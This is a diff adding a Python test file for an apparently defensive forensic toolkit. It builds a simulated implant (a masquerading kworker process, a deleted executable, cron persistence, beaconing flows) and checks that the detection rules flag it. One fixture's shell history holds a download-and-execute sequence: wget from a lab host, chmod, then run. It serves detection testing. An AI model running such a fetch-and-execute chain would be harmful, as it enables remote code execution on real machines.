@@ -1,0 +1,89 @@
+"""Correlation over small hand-made tables (the lab test checks the real thing)."""
+import json
+
+import pandas as pd
+
+from toolkit.correlate.findings import correlate_snapshot
+from toolkit.correlate.rules import RULES
+from toolkit.correlate.timeline import build_timeline
+
+SID = "s1"
+
+
+def _tables():
+    t = {}
+    t["memory/processes"] = pd.DataFrame([
+        {"pid": 1, "ppid": 0, "process": "init", "is_kernel_thread": False, "exe_path": "/init", "exe_deleted": False,
+         "in_list": True, "in_scan": True, "start_ts": pd.Timestamp("2026-01-01T00:00:00Z")},
+        {"pid": 2, "ppid": 0, "process": "kthreadd", "is_kernel_thread": True, "exe_path": None, "exe_deleted": False,
+         "in_list": True, "in_scan": True},
+        {"pid": 77, "ppid": 1, "process": "kworker/0:2H", "is_kernel_thread": False, "exe_path": "/tmp/.kw (deleted)",
+         "exe_deleted": True, "in_list": True, "in_scan": True, "start_ts": pd.Timestamp("2026-01-01T00:00:05Z")},
+        {"pid": 80, "ppid": 1, "process": "labsvc", "is_kernel_thread": False, "exe_path": "/usr/sbin/labsvc",
+         "exe_deleted": False, "in_list": True, "in_scan": True},
+    ])
+    t["memory/sockets"] = pd.DataFrame([
+        {"pid": 77, "proto": "tcp", "src_ip": "10.0.2.15", "src_port": 40000, "dst_ip": "10.0.2.100", "dst_port": 8443,
+         "state": "ESTABLISHED"},
+        {"pid": 80, "proto": "udp", "src_ip": "0.0.0.0", "src_port": 5353, "dst_ip": "0.0.0.0", "dst_port": 0, "state": "UNCONNECTED"},
+    ])
+    t["memory/executables"] = pd.DataFrame([{"pid": 77, "build_id": "abc", "first_page_sha256": "f" * 64}])
+    t["disk/files"] = pd.DataFrame([
+        {"path": "/var/tmp/.cache/.kworker-upd", "sha256": "1" * 64, "build_id": "abc", "first_page_sha256": "f" * 64,
+         "mtime": pd.Timestamp("2026-01-01T00:00:04Z")},
+        {"path": "/usr/sbin/labsvc", "sha256": "2" * 64},
+    ])
+    t["disk/persistence"] = pd.DataFrame([
+        {"kind": "cron", "path": "/etc/cron.d/upd", "program": "/var/tmp/.cache/.kworker-upd",
+         "program_path": "/var/tmp/.cache/.kworker-upd", "program_sha256": "1" * 64},
+    ])
+    t["disk/shell_history"] = pd.DataFrame([
+        {"command": "ls -la"},
+        {"command": "wget http://10.0.2.100:8443/kw -O /tmp/.kw"},
+        {"command": "chmod +x /tmp/.kw"},
+        {"command": "/tmp/.kw"},
+    ])
+    t["network/flows"] = pd.DataFrame([
+        {"flow_id": "f1", "proto": "tcp", "src_ip": "10.0.2.15", "src_port": 40000, "dst_ip": "10.0.2.100",
+         "dst_port": 8443, "first_ts": pd.Timestamp("2026-01-01T00:00:06Z"), "last_ts": pd.Timestamp("2026-01-01T00:00:30Z"),
+         "beacon_intervals": 10, "beacon_interval_mean": 2.0, "beacon_interval_cv": 0.05},
+    ])
+    t["yara/matches"] = pd.DataFrame([
+        {"target": "process", "rule": "lab_marker", "pid": 77, "process": "kworker/0:2H", "offset": 4096, "severity": "high"},
+        {"target": "stream", "rule": "lab_marker", "flow_id": "f1", "offset": 0, "severity": "high"},
+        {"target": "file", "rule": "lab_marker", "path": "/var/tmp/.cache/.kworker-upd", "offset": 100, "severity": "high"},
+    ])
+    return t
+
+
+def test_every_rule_is_documented():
+    for rule_id, rule in RULES.items():
+        assert rule["title"] and rule["severity"] in {"info", "low", "medium", "high", "critical"} and callable(rule["fn"])
+
+
+def test_implant_chain():
+    findings, problems, graph = correlate_snapshot(_tables(), SID)
+    assert len(problems) == 0, problems
+    by_rule = {}
+    for r in findings.itertuples():
+        by_rule.setdefault(r.rule_id, []).append(r)
+    assert [r.pid for r in by_rule["proc.kernel_thread_masquerade"]] == [77]
+    assert [r.pid for r in by_rule["proc.deleted_executable"]] == [77]
+    assert [r.entity for r in by_rule["net.unexpected_outbound"]] == ["process:77"]
+    assert [r.entity for r in by_rule["net.periodic_beacon"]] == ["process:77"]
+    assert [r.entity for r in by_rule["persist.suspicious_target"]] == ["process:77"]
+    assert [r.entity for r in by_rule["history.download_execute"]] == ["process:77"]
+    assert {r.entity for r in by_rule["yara.match"]} == {"process:77"}
+    # the benign service raises nothing high
+    assert not any(r.pid == 80 for r in findings.itertuples())
+    chain = json.loads(by_rule["proc.deleted_executable"][0].chain)
+    labels = " | ".join(step["label"] for step in chain)
+    assert "/var/tmp/.cache/.kworker-upd" in labels and "10.0.2.100:8443" in labels
+    assert all(json.loads(r.evidence) for r in findings.itertuples())
+
+
+def test_timeline_sorted_and_linked():
+    tl = build_timeline(_tables(), SID)
+    assert list(tl["ts"]) == sorted(tl["ts"])
+    assert {"process start", "flow start", "file mtime"} <= set(tl["kind"])
+    assert tl["table"].notna().all()
